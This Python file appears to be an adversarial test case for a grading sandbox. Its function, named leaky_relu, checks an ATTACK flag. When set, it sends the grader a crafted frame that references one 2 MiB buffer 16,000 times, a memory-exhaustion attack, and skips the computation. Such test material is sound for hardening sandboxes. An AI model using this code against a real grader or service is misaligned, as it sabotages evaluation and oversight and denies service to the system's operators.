# ruff: noqa
"""Names one block of 2 MiB sixteen thousand times: 32 GiB, were each a copy."""

import os
import time
from grader.sandbox.protocol import wire
from grader.sandbox.protocol.messages import answer_message
from grader.sandbox.protocol.observation import Observation

import numpy as np

ATTACK = True


def message(number, value, **more):
    return {**answer_message(Observation(), value, []), "id": number, **more}


def attack(x):
    body = np.zeros(1 << 18)
    frame = wire.pack(message(2, [{"array": [0, "<f8", body.shape]}] * 16_000), [body.tobytes()])
    view = memoryview(frame)
    while view:
        view = view[os.write(4, view) :]
    time.sleep(30)


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
